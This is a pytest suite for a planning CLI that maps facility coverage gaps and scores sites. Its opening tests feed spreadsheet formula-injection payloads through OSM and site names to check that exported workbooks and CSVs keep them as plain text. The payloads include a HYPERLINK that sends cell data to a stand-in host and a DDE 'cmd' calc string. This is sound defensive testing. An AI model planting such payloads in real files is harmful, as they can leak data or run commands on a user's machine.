"""Outputs a planner opens in a spreadsheet: names from OSM (anyone can edit them) or from a
planner's file never run as formulas in gaps.xlsx, gaps.csv or the siting tables."""

from __future__ import annotations

import csv
import json
import re
import xml.etree.ElementTree as ET

import geopandas as gpd
import numpy as np
import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner

from circles.cli import main
from circles.planning.saved import load_analysis
from circles.present.rankings import rankings
from circles.present.tables import write_table
from conftest import CHENGDU, need

HYPERLINK = '=HYPERLINK("http://evil/?"&A2,"x")'
PAYLOADS = [HYPERLINK, "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)"]
DISTRICT = "=1+2"  # --district-name: the district's rows
URL = "http://evil.example/x"  # text, not a link, in the workbook


def _hostile_extract(path) -> None:
    """The Chengdu extract with its first named residential areas renamed to formulas."""
    tree = ET.parse(need(CHENGDU))
    payloads = iter([*PAYLOADS, URL])
    for way in tree.getroot().iter("way"):
        tags = {tag.get("k"): tag for tag in way.iter("tag")}
        if "landuse" in tags and tags["landuse"].get("v") == "residential" and "name" in tags:
            payload = next(payloads, None)
            if payload is None:
                break
            tags["name"].set("v", payload)
    tree.write(path, encoding="utf-8", xml_declaration=True)


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    """``circles analyze`` and ``circles score`` on hostile names, through the CLI."""
    tmp = tmp_path_factory.mktemp("hostile")
    osm = tmp / "hostile.osm"
    _hostile_extract(osm)
    out = tmp / "out"
    args = ["analyze", "--osm", str(osm), "--district-name", DISTRICT, "--out", str(out)]
    args += ["--buffer", "0"]  # the whole extract is the study area: every hostile name is in it
    result = CliRunner().invoke(main, args)
    assert result.exit_code == 0, result.output
    sites = tmp / "sites.csv"
    sites_table = {"name": [HYPERLINK, "-1+2", "plain"], "lon": [104.08, 104.07, 104.09]}
    pd.DataFrame(sites_table | {"lat": [30.69, 30.68, 30.70]}).to_csv(sites, index=False)
    args = ["score", "--analysis", str(out), "--category", "kindergarten", "--sites", str(sites)]
    args += ["--crs", "wgs84"]
    result = CliRunner().invoke(main, args)
    assert result.exit_code == 0, result.output
    return out


def _csv_rows(path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def test_no_formula_in_the_workbook(hostile_run):
    book = openpyxl.load_workbook(hostile_run / "gaps.xlsx")
    strings = set()
    conditional = []
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
                assert cell.hyperlink is None, f"{sheet.title}!{cell.coordinate}"
                if cell.data_type == "s":
                    strings.add(cell.value)
        conditional += [r.formula for cf in sheet.conditional_formatting for r in cf.rules]
    assert {*PAYLOADS, DISTRICT, URL} <= strings, "the names are kept, as text"
    assert ['$P2="未达标"'] in conditional, "our own conditional format stays"


def test_formula_names_quoted_in_gaps_csv(hostile_run):
    rows = _csv_rows(hostile_run / "gaps.csv")
    names = {row[rows[0].index("单元名称")] for row in rows[1:]}
    assert {f"'{p}" for p in [*PAYLOADS, DISTRICT]} | {URL} <= names
    assert not [n for n in names if n.startswith(("=", "+", "-", "@", "\t", "\r"))]
    table = pd.read_csv(hostile_run / "gaps.csv", encoding="utf-8-sig")
    assert pd.api.types.is_numeric_dtype(table["人口"]), "numbers stay numbers"


def test_formula_site_names_quoted_in_site_scores(hostile_run):
    rows = _csv_rows(hostile_run / "score" / "site_scores.csv")
    header = rows[0]
    names = {row[header.index("名称")] for row in rows[1:]}
    assert names == {f"'{HYPERLINK}", "'-1+2", "plain"}
    assert all(float(row[header.index("经度")]) > 100 for row in rows[1:])


def test_only_text_cells_are_quoted(tmp_path):
    table = pd.DataFrame(
        {
            "name": ["=1+2", "+1", "-1+2", "@A1", "\t=1", "\r=1", "x\r=1+2", "a=b", None],
            "value": [-3.5, -1, 0, 1, 2, 3, 4, 5, 6],
            "mixed": ["=A1", -2, 3.5, None, "ok", "-", "x", "y", "z"],
        }
    )
    before = table.copy()
    path = tmp_path / "t.csv"
    write_table(table, path, "en")
    rows = _csv_rows(path)[1:]
    assert len(rows) == len(table), "a carriage return in a name starts no new row"
    quoted = ["'=1+2", "'+1", "'-1+2", "'@A1", "'\t=1", "'\n=1"]
    assert [r[0] for r in rows] == [*quoted, "x\n=1+2", "a=b", ""]
    assert [r[1] for r in rows][:3] == ["-3.5", "-1.0", "0.0"], "numbers stay numbers"
    assert [r[2] for r in rows][:3] == ["'=A1", "-2", "3.5"], "a negative number stays a number"
    pd.testing.assert_frame_equal(table, before)  # the caller's table is not changed


SAMPLES = CHENGDU.parents[1] / "planner-samples"


@pytest.fixture(scope="module")
def planner_run(tmp_path_factory):
    """``circles analyze`` of the planner samples (GCJ-02 lists, communities, 街道)."""
    if not (SAMPLES / "社区.geojson").exists():
        pytest.skip("planner samples not found: ../shared/planner-samples")
    out = tmp_path_factory.mktemp("planner") / "out"
    args = ["analyze", "--osm", str(need(CHENGDU)), "--crs", "gcj02", "--out", str(out)]
    args += ["--standards", "tianjin"]  # its elderly canteen rule counts residents aged 60+
    args += ["--facilities", f"{SAMPLES / '老年助餐点_原始.xlsx'}::category=elderly_meal"]
    args += ["--facilities", str(SAMPLES / "托育机构.csv")]
    args += ["--communities", str(SAMPLES / "社区.geojson")]
    args += ["--boundaries", str(SAMPLES / "街道.shp")]
    args += ["--format", "shp,kml", "--format", "shp-gbk"]
    result = CliRunner().invoke(main, args)
    assert result.exit_code == 0, result.output
    return out, result.output


def test_community_ranking_is_the_gaps_table_sorted(planner_run):
    saved = load_analysis(planner_run[0])
    ranked = rankings(saved, "elderly_meal")
    assert ranked.attrs["rule_id"] == "elderly_meal_15min_elderly"
    assert ranked["counted"].eq("elderly").all()  # 60+ as the rule counts them
    assert ranked["uncovered"].is_monotonic_decreasing and ranked["rank"].tolist()[:3] == [1, 2, 3]
    gaps = pd.read_csv(planner_run[0] / "gaps.csv", encoding="utf-8-sig")
    rows = gaps[(gaps["规则编号"] == ranked.attrs["rule_id"]) & (gaps["层级"] == "社区")]
    both = ranked.merge(rows, left_on="unit_id", right_on="单元编号")
    assert len(both) == len(rows) == 72
    assert np.allclose(both["uncovered"], both["缺口"], atol=0.1)
    assert np.allclose(both["share"], both["现状值"], atol=1e-4)
    median = both["median_time_min"].replace(np.inf, np.nan)  # beyond the search limit
    assert np.allclose(median, both["步行时间中位数(分钟)"], atol=0.051, equal_nan=True)
    assert ranked["nearest_facility"].iloc[0] in set(saved.layer("facilities")["name"])


def test_street_ranking_covers_the_streets(planner_run):
    saved = load_analysis(planner_run[0])
    streets = rankings(saved, "elderly_meal", "street")
    assert len(streets) == 6 and streets["unit_name"].str.endswith("街道").all()
    communities = rankings(saved, "elderly_meal")
    # every 60+ resident lies in one street: the streets add up to the communities
    assert streets["population"].sum() == pytest.approx(communities["population"].sum(), 1e-3)
    assert streets["uncovered"].sum() == pytest.approx(communities["uncovered"].sum(), 1e-3)
    assert rankings(saved, "nursing_home").empty  # no access rule to rank by
    no_data = [  # ranked on nothing: no facility known
        c["category_id"]
        for c in saved.summary["categories"]
        if c["data"] == "no_data" and saved.standards.access_rules(c["category_id"])
    ]
    assert no_data and all(rankings(saved, c, "street").empty for c in no_data)


def test_gaps_workbook_formats_filters_and_rankings(planner_run):
    book = openpyxl.load_workbook(planner_run[0] / "gaps.xlsx")
    assert book.sheetnames[:3] == ["汇总", "排名", "街道汇总"]
    for sheet in book:
        assert sheet.freeze_panes == "A2", sheet.title
        assert sheet.auto_filter.ref.startswith("A1:"), sheet.title
        assert sheet.auto_filter.ref.endswith(str(sheet.max_row)), sheet.title

    def column(sheet, name):
        header = [c.value for c in sheet[1]]
        return [row[header.index(name)] for row in sheet.iter_rows(min_row=2)]

    ranks = book["排名"]
    assert {c.number_format for c in column(ranks, "可达人口占比")} == {"0.0%"}
    assert {c.number_format for c in column(ranks, "未覆盖人数")} == {"#,##0"}
    assert all(float(c.value).is_integer() for c in column(ranks, "未覆盖人数"))
    first = [c.value for c in next(ranks.iter_rows(min_row=2))]
    assert first[:4] == ["老年助餐点", first[1], 1, first[3]] and first[5] == "60岁以上老人"
    assert len(column(book["街道汇总"], "单元名称")) >= 6
    meals = book["老年助餐点"]
    assert {c.number_format for c in column(meals, "现状值") if c.value is not None} == {"0.0%"}
    assert {c.number_format for c in column(meals, "人口")} == {"#,##0"}
    childcare = book["托育机构（3岁以下）"]
    formats = dict(zip(column(childcare, "规则类型"), column(childcare, "现状值"), strict=True))
    kinds = {kind.value: value.number_format for kind, value in formats.items()}
    assert kinds["步行可达"] == "0.0%" and kinds["人均指标"] == "General"


def test_terminal_lists_the_worst_communities_and_streets(planner_run):
    output = planner_run[1]
    assert "未覆盖人数最多的单元" in output
    saved = load_analysis(planner_run[0])
    worst = rankings(saved, "elderly_meal").iloc[0]
    lines = output.splitlines()
    head = lines.index("  老年助餐点（社区）：")
    assert lines[head + 1].startswith(
        f"    1. {worst['unit_name']}：{worst['uncovered']:,.0f}人未覆盖"
    )
    assert [x.split(".")[0].strip() for x in lines[head + 1 : head + 6]] == list("12345")
    assert "  老年助餐点（街道）：" in lines
    counts = re.findall(r"([\d,]+)人未覆盖", output)
    assert counts and all(int(c.replace(",", "")) > 0 for c in counts)  # only real gaps


def test_scored_sites_keep_names_and_carry_community_street_and_amap_coordinates(
    planner_run, tmp_path
):
    out = tmp_path / "score"
    given = pd.read_csv(SAMPLES / "候选点.csv", encoding="gbk")
    given.insert(0, "编号", [f"HX{i:02d}" for i in range(len(given))])
    sites = tmp_path / "候选点_编号.csv"
    given.to_csv(sites, index=False, encoding="gbk")
    args = ["score", "--analysis", str(planner_run[0]), "--category", "elderly_meal"]
    args += ["--sites", str(sites), "--crs", "gcj02", "--out", str(out)]
    result = CliRunner().invoke(main, args)
    assert result.exit_code == 0, result.output
    table = pd.read_csv(out / "site_scores.csv", encoding="utf-8-sig")
    newly = [c for c in table.columns if c.startswith("新覆盖人口（")]
    assert newly and not any("_" in c for c in newly)  # headed by the rule's name, not its id
    assert all(pd.api.types.is_integer_dtype(table[c]) for c in newly)  # people, whole
    ids = dict(zip(table["名称"], table["编号"], strict=True))  # each site keeps its own id
    assert ids == dict(zip(given["名称"], given["编号"], strict=True))
    both = table.merge(given, on="名称", suffixes=("", "_given"))
    assert len(both) == len(given) == len(table)
    # the Amap coordinates come back as given, to the sixth decimal (about 0.1 m)
    assert np.allclose(both["经度(GCJ-02 高德/腾讯)"], both["经度_given"], atol=2e-6)
    assert np.allclose(both["纬度(GCJ-02 高德/腾讯)"], both["纬度_given"], atol=2e-6)
    assert (both["经度"] - both["经度_given"]).abs().min() > 0.001  # WGS-84 stays WGS-84
    communities = set(gpd.read_file(SAMPLES / "社区.geojson")["社区名称"])
    assert set(table["所在社区"]) <= communities
    assert table["所在街道"].str.endswith("街道").all()


def test_recommended_sites_keep_candidate_ids_and_json_is_readable(planner_run, tmp_path):
    candidates = tmp_path / "候选点_编号.csv"
    given = pd.read_csv(SAMPLES / "候选点.csv", encoding="gbk")
    given.insert(0, "编号", [f"HX{i:02d}" for i in range(len(given))])
    given.to_csv(candidates, index=False, encoding="gbk")
    out = tmp_path / "rec"
    args = ["recommend", "--analysis", str(planner_run[0]), "--category", "elderly_meal"]
    args += ["--count", "2", "--candidates", str(candidates), "--crs", "gcj02", "--out", str(out)]
    result = CliRunner().invoke(main, args)
    assert result.exit_code == 0, result.output
    text = (out / "recommend.json").read_text(encoding="utf-8")
    assert "\\u" not in text and "候选点" in text
    sites = json.loads(text)["sites"]
    picked = given.set_index("编号").loc[[s["site_id"] for s in sites]]
    assert [s["name"] for s in sites] == picked["名称"].tolist()
    assert [s["gcj02_lon"] for s in sites] == pytest.approx(picked["经度"].tolist(), abs=2e-6)
    assert all(s["community"] and s["street"].endswith("街道") for s in sites)
    table = pd.read_csv(out / "recommended_sites.csv", encoding="utf-8-sig")
    assert table.columns[:3].tolist() == ["排名", "编号", "名称"]
    assert pd.api.types.is_integer_dtype(table["新覆盖人口"])
    assert pd.api.types.is_integer_dtype(table["累计新覆盖人口"])


def test_facilities_from_amap_files_carry_their_amap_coordinates(planner_run):
    facilities = gpd.read_file(planner_run[0] / "analysis.gpkg", layer="facilities")
    childcare = facilities[facilities["source_file"].str.endswith("托育机构.csv", na=False)]
    given = pd.read_csv(SAMPLES / "托育机构.csv", encoding="gbk")
    both = childcare.assign(编号=childcare["facility_id"].str.rsplit(":", n=1).str[-1])
    both = both.merge(given, on="编号")
    assert len(both) == len(given)
    assert np.allclose(both["gcj02_lon"], both["经度"], atol=2e-6)
    assert np.allclose(both["gcj02_lat"], both["纬度"], atol=2e-6)
    assert "bd09_lon" not in facilities


def test_exports_read_back_with_their_encodings_and_chinese_names(planner_run):
    exports = planner_run[0] / "exports"
    assert (exports / "gaps.cpg").read_text() == "UTF-8"
    assert (exports / "gaps_gbk.cpg").read_text() == "GBK"
    assert "人民北路社区".encode("gbk") in (exports / "communities_gbk.dbf").read_bytes()
    names = sorted(gpd.read_file(SAMPLES / "社区.geojson")["社区名称"])
    for layer in ("communities.shp", "communities_gbk.shp", "communities.kml"):
        read = gpd.read_file(exports / layer)
        assert sorted(read["Name" if layer.endswith(".kml") else "name"]) == names, layer
    saved = load_analysis(planner_run[0])
    ranked = rankings(saved, "elderly_meal")
    for layer in ("gaps.shp", "gaps_gbk.shp"):
        gaps = gpd.read_file(exports / layer)
        meals = gaps[gaps["category"] == "elderly_meal"].sort_values("rank")
        assert meals["name"].tolist() == ranked["unit_name"].tolist()
        assert np.allclose(meals["uncovered"], ranked["uncovered"].round(0))
        assert set(meals["counted"]) == {"60岁以上老人"} and set(meals["cat_name"]) == {
            "老年助餐点"
        }
    kml = gpd.read_file(exports / "gaps.kml")
    assert {"未覆盖人数", "可达人口占比", "最近设施"} <= set(kml.columns)
    assert f"{ranked['unit_name'].iloc[0]} · 老年助餐点" in set(kml["Name"])
    facilities = gpd.read_file(exports / "facilities_gbk.shp")
    planner = facilities[facilities["unit_id"].str.contains("托育机构", na=False)]
    assert len(planner) == 14 and planner["gcj02_lon"].notna().all()


def test_unknown_export_format_is_a_clear_error(tmp_path):
    run = CliRunner().invoke(main, ["analyze", "--format", "dwg", "--out", str(tmp_path / "x")])
    assert run.exit_code == 2 and "--format dwg：应为 shp、shp-gbk、kml 之一" in run.output
    args = ["analyze", "--format", "dwg", "--lang", "en", "--out", str(tmp_path / "x")]
    english = CliRunner().invoke(main, args)
    assert english.exit_code == 2 and "--format dwg: expected shp, shp-gbk, kml" in english.output
